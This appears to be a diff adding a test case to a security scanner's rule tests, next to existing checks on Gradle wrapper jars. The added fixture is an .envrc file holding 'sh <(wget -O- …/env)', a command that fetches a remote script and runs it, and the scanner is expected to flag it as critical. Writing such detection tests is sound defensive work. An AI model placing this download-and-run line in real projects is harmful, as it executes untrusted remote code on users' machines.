@@ -127,3 +127,5 @@ fires("gradle_wrapper_jar_extra_classes", "gradle_wrapper_jar_foreign_code", "hi
       "app/gradle/wrapper/gradle-wrapper.jar")
 silent("gradle_wrapper_jar_official_layout", "gradle_wrapper_jar_foreign_code",
        sample("gradle-wrapper.jar", wrapper_jar([]), binary=True), "app/gradle/wrapper/gradle-wrapper.jar")
+fires("envrc_sh_process_subst_wget", "envrc_downloads_and_runs", "critical",
+      sample("envrc-wget-subst", "layout python3\nsh <(wget -O- https://203.0.113.4/env)\n"), ".envrc")
